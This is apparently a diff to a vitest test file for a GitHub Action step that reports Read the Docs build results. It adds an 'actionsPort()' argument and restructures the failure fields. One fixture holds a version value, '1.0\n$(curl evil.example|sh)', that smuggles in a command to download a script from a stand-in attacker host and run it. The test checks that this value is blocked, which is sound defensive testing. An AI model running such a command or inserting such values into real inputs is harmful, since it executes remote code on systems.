@@ -5,6 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { reportStep, run } from '../../src/step.js';
+import { actionsPort } from '../../src/runner/actions.js';
 import { OUTPUT_NAMES } from '../../src/reporting/report.js';
 import { parseOutputFile } from '../../harness/run-action.ts';
 import { startStandin, type Standin } from '../../harness/rtd-standin.ts';
@@ -116,13 +117,21 @@ describe('reportStep', () => {
       {
         results: [
           { project: 'one', outcome: 'success', summarySections: ['**chart of one**'] },
-          { project: 'two', outcome: 'failed', title: 'Build failed', reason: 'two: exit 1', summarySections: ['**chart of two**'] },
+          {
+            project: 'two',
+            outcome: 'failed',
+            title: 'Build failed',
+            subject: 'two',
+            reason: 'exit 1',
+            summarySections: ['**chart of two**'],
+          },
         ],
         summary: ['**the step**'],
         outputs: { config: 'text' },
       },
       { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
       (text) => text.replaceAll('exit 1', '***'),
+      actionsPort(),
     );
 
     expect(process.exitCode).toBe(1);
@@ -143,6 +152,7 @@ describe('reportStep', () => {
       { results: [{ project: 'one', outcome: 'success', version: '1.0\n$(curl evil.example|sh)' }], summary: [], outputs: {} },
       { operation: 'wait', baseUrl: 'https://app.readthedocs.org' },
       (text) => text,
+      actionsPort(),
     );
 
     expect(outputs().version).toBe('');
@@ -161,6 +171,7 @@ describe('reportStep', () => {
       { results: [{ project: 'one', outcome: 'success' }], summary: [], outputs: { config, plan: '[{' } },
       { operation: 'export', baseUrl: 'https://app.readthedocs.org' },
       (text) => text,
+      actionsPort(),
     );
 
     const set = outputs();
@@ -197,6 +208,7 @@ describe('reportStep', () => {
       },
       { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
       (text) => text,
+      actionsPort(),
     );
 
     const text = summary();
@@ -222,9 +234,10 @@ describe('reportStep', () => {
       return text;
     };
     await reportStep(
-      { results: [{ project: 'one', outcome: 'failed', title: 'Boom title', reason: 'one: exit 1' }], summary: [], outputs: {} },
+      { results: [{ project: 'one', outcome: 'failed', title: 'Boom title', subject: 'one', reason: 'exit 1' }], summary: [], outputs: {} },
       { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
       redact,
+      actionsPort(),
     );
 
     expect(Object.keys(outputs()).sort()).toEqual([...OUTPUT_NAMES].sort());
@@ -236,7 +249,7 @@ describe('reportStep', () => {
   });
 
   it('a green report leaves the exit code alone and writes no summary without results', async () => {
-    await reportStep({ results: [], summary: ['**unseen**'], outputs: {} }, undefined, (text) => text);
+    await reportStep({ results: [], summary: ['**unseen**'], outputs: {} }, undefined, (text) => text, actionsPort());
 
     expect(process.exitCode).toBeUndefined();
     expect(outputs()).toMatchObject({ results: '[]', success: 'false' });
